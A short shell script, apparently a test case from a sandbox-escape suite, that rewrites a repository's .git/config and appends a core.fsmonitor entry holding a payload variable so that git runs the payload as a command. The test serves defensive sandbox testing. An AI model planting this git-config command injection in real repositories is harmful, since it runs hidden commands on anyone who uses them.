#!/bin/sh
# Removes the configuration and writes a new one.
# Matters: as config_by_rename.
# Held by: a directory of the sandbox's own at .git, into which only what is harmless is bound.
# judge: host
# harm: guarded owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
cp .git/config config.old
rm -f .git/config
cat config.old >.git/config
printf '[core]\n\tfsmonitor = "%s; false"\n' "$payload" >>.git/config
